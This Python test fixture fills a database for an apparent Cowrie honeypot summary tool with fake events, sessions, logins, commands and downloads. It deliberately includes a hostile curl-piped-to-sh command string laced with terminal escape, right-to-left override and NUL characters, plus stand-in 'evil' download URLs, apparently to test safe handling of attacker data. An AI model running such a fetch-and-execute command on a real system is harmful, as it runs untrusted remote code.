"""A small database filled by hand, with texts that lie, doubled and hostile."""

from pathlib import Path

from sesscore.store import open_for_writing

DAY_US = 86_400_000_000
EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
EMPTY_SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
HOSTILE = "curl x\x1b[2J\u202e\0|sh"

TEXTS = {
    1: "cowrie.login.failed", 2: "cowrie.login.success", 3: "cowrie.command.input", 4: "cowrie.session.connect",
    5: "cowrie.session.file_download", 6: "cowrie.session.file_upload", 7: "cowrie.command.input",
    10: "ssh", 11: "telnet", 20: "10.0.0.1", 21: "10.0.0.2", 22: "10.0.0.1",
    30: "root", 31: "123456", 32: "", 33: "admin", 34: "root",
    40: "uname -a", 41: HOSTILE, 42: "uname -a",
    50: "SSH-2.0-Go", 51: "SSH-2.0-libssh\r\n",
    60: "http://evil/a", 61: "http://evil/b", 62: "drop.sh",
    70: "aa" * 32, 71: EMPTY_SHA1, 72: EMPTY_SHA256, 73: "bb" * 32,
}  # fmt: skip
# day, sensor, event id, events
EVENTS = [
    (0, 1, 1, 5),
    (0, 1, 4, 6),
    (1, 1, 1, 2),
    (0, 2, 2, 3),
    (0, 2, 3, 4),
    (1, 2, 7, 1),
    (1, 2, 5, 5),
    (1, 2, 6, 4),
]
# day, sensor, match, protocol, sessions, their milliseconds, their events
SESSIONS = [
    (0, 1, 1, 10, 4, 9000, 20),
    (0, 2, 2, 11, 2, 10, 6),
    (1, 2, 1, 10, 1, 7, 3),
    (1, 2, 3, 0, 1, 0, 1),
    (1, 1, 1, 11, 0, 0, 0),
]
# day, sensor, kind, a, b, seen
VALUES = [
    (0, 1, 101, 20, 0, 3), (1, 2, 101, 22, 0, 1), (0, 1, 101, 21, 0, 3), (0, 2, 101, 0, 0, 1),
    (0, 1, 102, 50, 0, 4), (1, 2, 102, 51, 0, 1),
    (0, 1, 1, 30, 31, 3), (1, 1, 1, 34, 31, 1), (0, 2, 2, 30, 31, 2), (0, 2, 2, 33, 0, 1), (0, 1, 1, 33, 32, 3),
    (0, 2, 3, 40, 0, 2), (1, 2, 3, 42, 0, 1), (0, 2, 3, 41, 0, 2),
    (1, 2, 6, 60, 70, 1), (1, 2, 6, 61, 70, 2), (1, 2, 8, 62, 70, 1), (1, 2, 8, 62, 73, 1),
    (1, 2, 6, 60, 71, 1), (1, 2, 6, 60, 0, 1), (1, 2, 8, 62, 72, 2),
]  # fmt: skip
# path, state, and the six figures of the ledger
SOURCES = [
    ("a.json", "read", 20, 15, 2, 1, 1, 1),
    ("b.json", "read", 15, 15, 0, 0, 0, 0),
    ("c.csv", "alien", 7, 0, 0, 0, 7, 0),
]


def fill(path: Path) -> Path:
    """A closed database at `path`."""
    with open_for_writing(path) as database, database.connection as connection:
        run = connection.executemany
        run("INSERT INTO sensor VALUES (?, ?)", [(1, "alpha"), (2, "beta"), (3, "never heard of")])
        connection.execute("DELETE FROM text")
        run("INSERT INTO text VALUES (?, ?)", list(TEXTS.items()))
        run(
            "INSERT INTO rollup_event VALUES (?, ?, ?, ?, ?, ?)",
            [(*row, row[0] * DAY_US + 1, row[0] * DAY_US + 2_500_000) for row in EVENTS],
        )
        run("INSERT INTO rollup_session VALUES (?, ?, ?, ?, ?, ?, ?)", SESSIONS)
        run("INSERT INTO rollup_value VALUES (?, ?, ?, ?, ?, ?)", VALUES)
        for key, (name, state, *ledger) in enumerate(SOURCES, 1):
            connection.execute(
                "INSERT INTO source (source_id, origin, path, stored_bytes, modified_ns, compression, sensor,"
                " head_hash, head_bytes, offset, tail_hash, tail_bytes, records, line_open, lead_bytes, lead_records,"
                " half_bytes, pending_bytes, state)"
                " VALUES (?, randomblob(16), ?, 0, 0, 'none', 'unknown', x'', 0, 0, x'', 0, 0, 0, 0, 0, 0, 0, ?)",
                (key, name, state),
            )
            connection.execute("INSERT INTO ledger VALUES (?, ?, ?, ?, ?, ?, ?)", (key, *ledger))
        run(
            "INSERT INTO quarantine VALUES (NULL, ?, 1, ?, 0, 1, ?, x'00')",
            [(1, 1, "no_time"), (3, 4, "json"), (3, 3, "json")],
        )
    return path
